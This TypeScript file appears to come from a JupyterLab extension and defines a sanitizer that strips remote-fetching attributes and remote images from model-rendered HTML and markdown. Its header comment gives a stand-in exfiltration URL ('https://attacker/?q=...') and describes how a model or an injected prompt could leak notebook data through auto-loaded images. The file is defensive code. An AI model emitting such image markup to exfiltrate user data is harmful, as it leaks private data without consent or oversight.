/**
 * A sanitizer for model text that loads nothing remote.
 *
 * Model markdown may hold `<img src="https://attacker/?q=...">` or
 * `![](https://...)`: JupyterLab's sanitizer keeps those, and the browser
 * fetches them the moment the reply is rendered, while it streams and before
 * any approval, so a model (or a prompt injected into its context) could send
 * the notebook's data anywhere. This wraps the registry's sanitizer: after it
 * has run, every attribute that would make the browser fetch an absolute
 * `http(s):`, protocol-relative or other remote URL is removed, and a remote
 * image becomes a note naming its host. `data:` and `blob:` images, and
 * relative URLs (files on this Jupyter server), are kept. Links stay: a link
 * loads nothing until the user clicks it.
 */
import type { IRenderMime } from '@jupyterlab/rendermime-interfaces';

// Attributes whose value the browser fetches on its own.
const FETCHING = [
  'src',
  'srcset',
  'poster',
  'background',
  'data',
  'lowsrc',
  'dynsrc'
];
const SVG_LINKS = ['href', 'xlink:href'];

/** A URL the browser would fetch from somewhere other than this page's data. */
export function isRemote(url: string): boolean {
  const value = url.trim().toLowerCase();
  if (value.startsWith('data:') || value.startsWith('blob:')) {
    return false;
  }
  // A scheme (http:, https:, ftp:, ...) or a protocol-relative //host.
  return /^[a-z][a-z0-9+.-]*:/.test(value) || value.startsWith('//');
}

function hostOf(url: string): string {
  try {
    return new URL(url, 'https://invalid.example').host || url;
  } catch {
    return url.slice(0, 60);
  }
}

/** Remove every remote fetch from an HTML fragment (returns the new HTML). */
export function withoutRemoteFetches(html: string): string {
  const doc = new DOMParser().parseFromString(
    `<body>${html}</body>`,
    'text/html'
  );
  for (const el of Array.from(doc.body.querySelectorAll('*'))) {
    const tag = el.tagName.toLowerCase();
    const remote: string[] = [];
    for (const name of FETCHING) {
      const value = el.getAttribute(name);
      if (value === null) {
        continue;
      }
      // srcset holds several URLs, each with an optional size.
      const urls = name === 'srcset' ? value.split(',') : [value];
      if (urls.some(u => isRemote(u.trim().split(/\s+/)[0] ?? ''))) {
        remote.push(value);
        el.removeAttribute(name);
      }
    }
    if (tag === 'image' || tag === 'use' || tag === 'feimage') {
      for (const name of SVG_LINKS) {
        const value = el.getAttribute(name);
        if (value !== null && isRemote(value)) {
          remote.push(value);
          el.removeAttribute(name);
        }
      }
    }
    const style = el.getAttribute('style');
    if (style && /url\s*\(/i.test(style)) {
      el.removeAttribute('style');
    }
    if (tag === 'img' && remote.length) {
      const note = doc.createElement('span');
      note.className = 'jp-codeact-remote-image';
      note.textContent = `[remote image not loaded: ${hostOf(remote[0])}]`;
      el.replaceWith(note);
    }
  }
  return doc.body.innerHTML;
}

/** The registry's sanitizer, then `withoutRemoteFetches`. */
export class NoRemoteSanitizer implements IRenderMime.ISanitizer {
  constructor(base: IRenderMime.ISanitizer) {
    this._base = base;
  }

  sanitize(dirty: string, options?: IRenderMime.ISanitizerOptions): string {
    return withoutRemoteFetches(this._base.sanitize(dirty, options));
  }

  getAutolink(): boolean {
    return this._base.getAutolink?.() ?? true;
  }

  get allowNamedProperties(): boolean {
    return this._base.allowNamedProperties ?? false;
  }

  private _base: IRenderMime.ISanitizer;
}

// `![alt](url "title")` and raw media tags in markdown source.
const MD_IMAGE = /!\[([^\]]*)\]\(\s*<?([^)\s>]+)>?(?:\s+["'][^)]*["'])?\s*\)/g;
const MEDIA_TAG =
  /<(img|image|video|audio|source|track|iframe|embed|object|input|picture)\b[^>]*>/gi;
const TAG_URL =
  /\b(?:src|srcset|poster|href|xlink:href|data|background)\s*=\s*["']?([^"'\s>]+)/gi;

/**
 * Markdown that a notebook renders with images allowed (the answer cell): a
 * remote image becomes a link to it, a media tag that fetches a remote URL
 * becomes its text. Mirrors `markdown_without_remote_fetches` in
 * codeact_lab/export.py.
 */
export function markdownWithoutRemoteFetches(markdown: string): string {
  return markdown
    .replace(MD_IMAGE, (whole, alt: string, url: string) =>
      isRemote(url) ? `[${alt || 'image'}](${url})` : whole
    )
    .replace(MEDIA_TAG, whole => {
      const urls: string[] = [];
      const pattern = new RegExp(TAG_URL.source, 'gi');
      let found: RegExpExecArray | null;
      while ((found = pattern.exec(whole)) !== null) {
        urls.push(found[1]);
      }
      return urls.some(isRemote) ? `\`${whole.replace(/`/g, "'")}\`` : whole;
    });
}
